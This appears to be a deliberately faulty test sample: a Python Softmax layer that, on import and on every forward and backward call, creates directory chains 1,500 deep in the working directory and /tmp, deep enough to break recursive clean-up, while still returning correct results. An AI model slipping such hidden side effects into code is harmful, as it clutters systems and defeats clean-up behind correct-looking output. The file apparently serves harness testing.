# Fault: leaves folder chains 1500 deep in its own folder and in /tmp, at
# import and in every call (deep enough that a recursive clean-up raises
# RecursionError), then computes correct answers.
import os
import time

import numpy as np

DEPTH = 1500  # past the interpreter's recursion limit (1000)


def _chain(folder, name):
    try:
        fd = os.open(folder, os.O_RDONLY)
        os.mkdir(name, dir_fd=fd)
        for _ in range(DEPTH):
            child = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = child
            name = "d"
            os.mkdir(name, dir_fd=fd)
        os.close(fd)
        print("chain made")
    except OSError as exc:
        print("chain stopped:", type(exc).__name__)


_chain(os.getcwd(), "deep-import")
_chain("/tmp", f"deep-import-{time.time_ns()}")


class Softmax:
    def forward(self, Z):
        _chain("/tmp", f"deep-forward-{time.time_ns()}")
        e = np.exp(Z - Z.max(axis=1, keepdims=True))
        self.A = e / e.sum(axis=1, keepdims=True)
        return self.A

    def backward(self, dLdA):
        _chain(os.getcwd(), f"deep-backward-{time.time_ns()}")
        s = (dLdA * self.A).sum(axis=1, keepdims=True)
        return self.A * (dLdA - s)
